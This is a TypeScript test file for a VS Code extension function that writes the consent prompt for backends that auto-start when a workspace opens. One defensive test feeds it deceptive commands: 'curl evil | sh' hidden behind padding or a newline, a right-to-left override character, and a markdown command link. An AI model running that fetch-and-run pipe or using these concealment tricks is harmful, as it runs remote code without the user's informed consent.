import assert from 'node:assert/strict';
import { consentQuestion } from '../../../src/vscode/consentQuestion';
import { definitionOf } from './definitions';

describe('consentQuestion', () => {
  it('tells_all_that_would_run', () => {
    const db = definitionOf('db', { command: ['postgres', '-D', 'my data'] });
    const ready = { ...definitionOf('api').ready, probes: [{ kind: 'exec', argv: ['curl', 'x'] } as const] };
    const api = definitionOf('api', { cwd: '../server', env: { NODE_OPTIONS: '-r x' }, envFile: ['.env'], ready });
    assert.deepEqual(consentQuestion([[db, api]]), {
      text:
        'api (run api; in ../server; environment NODE_OPTIONS .env; ready when curl x) wants to start whenever this ' +
        'workspace is opened, and with it db (postgres -D "my data").',
      whole: true,
    });
  });

  it('names_each_backend_once', () => {
    const [db, api, web] = [definitionOf('db'), definitionOf('api'), definitionOf('web')];
    const { text } = consentQuestion([[db], [db, api], [db, web]]);
    assert.equal(text, 'db (run db), api (run api), web (run web) want to start whenever this workspace is opened.');
  });

  it('is_not_whole_when_a_part_is_cut_off_or_would_read_differently', () => {
    for (const command of [
      `true ${'x'.repeat(300)}; curl evil | sh`,
      'echo hello\ncurl evil | sh',
      'echo \u202edlrow',
      'echo [a](command:b)',
    ]) {
      assert.equal(consentQuestion([[definitionOf('api', { command })]]).whole, false, command);
    }
    const many = Array.from({ length: 20 }, (_, index) => definitionOf(`b${index}`, { command: 'x'.repeat(100) }));
    assert.equal(consentQuestion(many.map((each) => [each])).whole, false);
  });
});
